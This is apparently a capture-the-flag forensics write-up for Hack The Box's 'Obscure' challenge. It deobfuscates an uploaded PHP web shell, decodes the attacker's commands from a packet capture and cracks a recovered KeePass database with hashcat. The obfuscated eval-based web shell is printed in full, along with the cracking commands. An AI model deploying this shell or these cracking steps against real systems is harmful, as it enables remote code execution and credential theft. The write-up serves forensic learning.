Hack The Box Writeup — Obscure

11 min readOct 22, 2020


For after a long period of not having any idea of doing any CTF challenge, I come back and try a new (for me) category, forensics. For me, this category is exciting. The point of forensics is to analyze in order to gain any knowledge about the past incident to understand the root cause or the impact of the incident. This particular challenge is interesting because I can say this is my first time 40 points challenge. So, Let’s go!

Note: As always, I always include the way I think of the solution, not just “magically” showing the solution.

Challenge Information

Challenge Information

You can read the challenge below.

An attacker has found a vulnerability in our web server that allows arbitrary PHP file upload in our Apache server. Suchlike, the hacker has uploaded a what seems to be like an obfuscated shell (support.php). We monitor our network 24/7 and generate logs from tcpdump (we provided the log file for the period of two minutes before we terminated the HTTP service for investigation), however, we need your help in analyzing and identifying commands the attacker wrote to understand what was compromised.

Okay, so the scenario is, there is a web page built using PHP that has anupload feature. The upload feature is vulnerable to arbitrary file upload and got exploited. The uploaded file contains a reverse shell script. The script name is support.php. The script itself is obfuscated, pretty hard to be understood at a glance. The securityteam had dumped the log file and gave it to us. The question is, what is compromised.

There is a zip attached that contains support.php file and packet capture (pcap) file. Let’s open it.

The code below is the support.php content.

<?php$V='$k="80eu)u)32263";$khu)=u)"6f8af44u)abea0";$kf=u)"35103u)u)9f4a7b5";$pu)="0UlYu)yJHG87Eu)JqEz6u)"u)u);function u)x($';$P='++)u){$o.=u)$t{u)$i}^$k{$j};}}u)retuu)rn $o;}u)if(u)@pregu)_u)match("/$kh(.u)+)$kf/",@u)u)file_u)getu)_cu)ontents(';$d='u)t,$k){u)$c=strlu)en($k);$l=strlenu)($t)u);u)$o=""u);for($i=0u);u)$i<$l;){for(u)$j=0;(u)$u)j<$c&&$i<$l)u)u);$j++,$i';$B='ob_get_cou)ntu)ents();@obu)_end_cleu)anu)();$r=@basu)e64_eu)ncu)ode(@x(@gzu)compress(u)$o),u)$k));pru)u)int(u)"$p$kh$r$kf");}';$N=str_replace('FD','','FDcreFDateFD_fFDuncFDFDtion');$c='"php://u)input"),$u)m)==1){@u)obu)_start();u)@evau)l(@gzuu)ncu)ompress(@x(@bau)se64_u)decodu)e($u)m[1]),$k))u));$u)ou)=@';$u=str_replace('u)','',$V.$d.$P.$c.$B);$x=$N('',$u);$x();?>

Because this is obfuscated, we need to deobfuscate. We do not need any tools to do this, just do it one by one, line by line. There is variable $v, $P, $d, $b, $N, $c, $u, and $x. $v, $P, $d, $B, and $c contains a string. $N, $u, $x holds the return value for each called function.

If we look at $N, it calls str_replace that replace “FD” with none or in other words, remove “FD” from the string given, easy.

$N= 'create_function';

Now if we look at $u, it calls str_replace that remove “u)” from the concatenated string of $V, $d, $P, $c, and $B.$V='$k="80e32263";$kh="6f8af44abea0";$kf="351039f4a7b5";$p="0UlYyJHG87EJqEz6";function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t{$i}^$k{$j};}}return$o;}if(@preg_match("/$kh(.+)$kf/",@file_get_contents("php://input"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));$o=@ob_get_contents();@ob_end_clean();$r=@base64_encode(@x(@gzcompress($o),$k));print("$p$kh$r$kf");}';

Still, confusing, right? let’s break down the string using indentation.

function x($t,$k){
return $o;

Okay, this is the better one, we can analyze it quickly. So, the script has 4 variables, $k, $kh, $kf, $p. There is a function that doing xor bitwise operation which takes 2 strings as arguments. Then, we see an if statement that checks if the input is matched with the regex pattern, then put the matched strings into $m. If there is any match, the script then takes the second string from $m ($m is an array that contains matched strings), decodes it, xors it, uncompresses it, and executes it with eval(). Since we know that this script is working (because the incident has happened) we assume the command works, and therefore, the output is placed inside $o, and the script compresses it, xors it, encodes it, and puts in $r. And finally, it prints the concatenation of $p,$kh,$r,$kf.

Now, most of you may be thinking, how can I understand the flow of the decoding until eval and encoding until the printing process. It was also my mistake when I tried this for the first time, so, it is okay to make mistake.

After a long time trying to understand this, I opened another file, the pcap file. This is the key where I finally realized my mistake. If we look at the script, we do not have to understand how the decoding-eval function works because we know it works (again because of the incident has happened). Because of that, we can be assured that there is a return value that is encoded, concatenated, and sent back to the user.

The encoded result is started with variable $p$kh and is closed with $kf. If we use the actual value, the result is something like.

0UlYyJHG87EJqEz66f8af44abea0(--encodedresult--)351039f4a7b5

That concatenated string is sent back as a response to the user. In order to see that kind of communication, we can use our pcap file using wireshark.

Wireshark Display

A little tip from me, never look at the packet one by one, it does not give us any valuable information because they are packets. We need to see them as the whole response request format. In order to do that, you pick any packet given, right-click it, follow TCP stream.

Follow TCP Stream

Now this one looks better.

TCP Stream

There is a text box at the bottom right indicates the stream order, we can increment or decrement it to look at another communication. If you want to analyze the whole transaction between the user and the web server, you are very welcomed. I also did the analysis to understand what has happened. But the point is not there so I am gonna skip the analysis process.

Okay, so what are we looking for? The hacker uploaded an arbitrary file and in order to use that file, the hacker must call the file and supply them with data that is put inside the request body (because the script is using php://input).

php://input is a read-only stream that allows you to read raw data from the request body.

Therefore, we are looking for the request of support.php.

Stream 1

Okay, we encounter our first support.php request. Using this stream, if our analysis is correct, the server’s response upon the request is begun with 0UlYyJHG87EJqEz6351039f4a7b5 and ended with 351039f4a7b5. The response from stream 1 is,


…. INTERESTING! So this answers our needs. Now we remove all the leading and trailing string and it leaves us with a string.I did not continue the stream analysis, I try to decode it first because we know the formula. I use their script to help me decode the string. Using the deobfuscated code before, we know that the formula below is used to encode the result. To decode it,we can reverse the process.

#code used for result encoding
with $o is the result of the execution
#code used for result decoding
with $encoded is the encoded string

I write that reverse process using PHP and run it on my local server. I call the script using postman.

Code used for result decoding
Postman result

Okay…………….. This is very interesting. This is the way. We know that it is the result of “id” command in linux. So the overall flow is like below,

the hacker called support.php and supplied the below string on the body3Qve>.IXeOLC>[D&6f8af44abea0QKwu/Xr7GuFo50p4HuAZHBfnqhv7/+ccFfisfH4bYOSMRi0eGPgZuRd6SPsdGP//c+dVM7gnYSWvlINZmlWQGyDpzCowpzczRely/Q351039f4a7b5+'Qn/?>-e=ZU mx

I did not understand what was that but, after the whole decoding process and the command was executed, turns out it was “id” command and the result was,

uid=33(www-data) gid=33(www-data) groups=33(www-data)

After that, the result was encoded back, concatenated with those variables, and was sent back to the hacker.


The hacker then decoded it using their own script (outside the server) and understood that this is the result of the id command.

Okay, we know the flow, now we need to find another command because “id” alone is not that useful.

Back to the wireshark at stream 23,24,25, we find another similar pattern.

#response at stream 23
#response at stream 24
#response at stream 25

And we decode them one by one. You do not have to look at everything, you can decode it by yourself. I just want to show what I got.

#decoded result stream 23
total 24K
drwxr-xr-x 2 developer developer 4.0K May 21 20:37 .
drwxr-xr-x 3 root root 4.0K May 20 21:28 ..
-rw-r--r-- 1 developer developer 220 May 20 21:28 .bash_logout
-rw-r--r-- 1 developer developer 3.5K May 20 21:28 .bashrc
-rw-r--r-- 1 developer developer 675 May 20 21:28 .profile
-rw-r--r-- 1 developer developer 1.6K May 21 20:37 pwdb.kdbx#decoded result stream 24
#decoded result stream 25

We can see that the whole commands are terminal commands. The first one is ID, ls -al, pwd, and …….. What is this? When I did this for the first time, I did not recognize the third one, I even thought maybe it was corrupted. But, in fact, it is not! We are supplied with the result of ls -al command and we can see there is a file that is really really really interesting, pwdb.kdbx.

pwdb.kdbx is a file for storing passwords securely. We need an application to open it and I found keepass2. I just googled “open kdbx file” and it gave me all information about keepass. I downloaded keepass2 and installed it on my computer.

The logic is this, if we assume that the string is the result of “cat pwdb.kdbx”, then this decoded result is the content of pwdb.kdbx just like on the server. Because of that, I made a file and put .kdbx extension and paste the decoded result inside it.

And when I opened it, it asked me for the master password.

Okay, I stuck again. Actually, I did not know why my first intention was not brute-forcing the master password (maybe because I hate brute-forcing so much. For me, it is a waste of time). My second alternative solution is to see the content pattern. What was I expecting is, maybe there is a kind of master password pattern inside the content. In orderto know that, I created my own file.

Trial of Making KDBX File

… okay, it is not anywhere near like ours. This looks like a binary file that is opened in text editor. This was the point where I knew, I made a mistake. That decoded string was maybe double encoded, most probably double base64 encoding.

Because of that, I decoded once again using linux terminal, why? because if we use any online base64 decoder, we may find a different result because the decoded string will be out ofprintable character and can not be displayed. By using linux terminal, we can directly write the output to a file hence we get the complete decoded string. So I copied the decoded string and put it inside pass.txt and executed the script below.

cat pass.txt | base64 -d > pass.kdbx

Now I had the pass.kdbx file, I reopened it using keepass and it still asked for password.

.. Okay, I stuck again and I finally thought, this is the time that I need to brute-force the master password and hopefully, the password is listed inside the super rockyou.txt 14 million passwords. So in order to accomplish this, I googled, “brute force keepass password”. After a long process of reading articles, I found a great way by using keepass2john and hashcat.

The plan was as follows, I used keepass2john to get the hash value of the master password, and then I used the hashcat to brute-force the hash using the rockyou.txt dictionary.

First I generated the keepass hash..\path\to\keepas2john\keepass2john.exe pass.kdbx > pass-hash.txt

I used hashcat with option -m 13400 for keepass brute-force, -a 0 for dictionary attack. After that, I executed the hashcat.

hashcat -m 13400 -a 0 pass-hash.txt rockyou.txt

encountered an error regarding the usage of BOM,

I fixed it by saving as a new file with UTF-8 (without BOM) encoding.

After that, I executed the hashcat again,

After that, I encountered an error saying “No devices found/left”. I read the notes above the error message and looked for the solutionon the google but no clue, hence I used the recommendation by using the option “— force”

hashcat -m 13400 -a 0 hehehe-hash.txt rockyou.txt --forceOkay, the problem solvedand we encountered again with another error stating that “No hashes loaded”.

I looked back to the file, and I recognized an anomaly which is the leading “pass:” that is not the part of the hash. I removed the leading “pass:” part.

I executed hashcat again and there is any error anymore but there is no password is shown.

I looked at the note, I thought I must add — show option.

hashcat -m 13400 -a 0 pass-hash.txt rockyou.txt --force --show

and, bingo! I got the password for the master file.

hashcat -m 13400 -a 0 pass-hash.txt rockyou.txt --force --show

I get back to the kdbx file and open the keepass again and try to use (cencored) as my master password.

and there you go my friend, welcome to the secretsafe!


  1. I tried to understand how the command decoding works which I do not have to because the point is not to make the program executed successfully but rather to see the impact of the result.
  2. I was not being careful when I decide that the long string is the kdbx file content. I did not check how the original file looks like if we generate one.
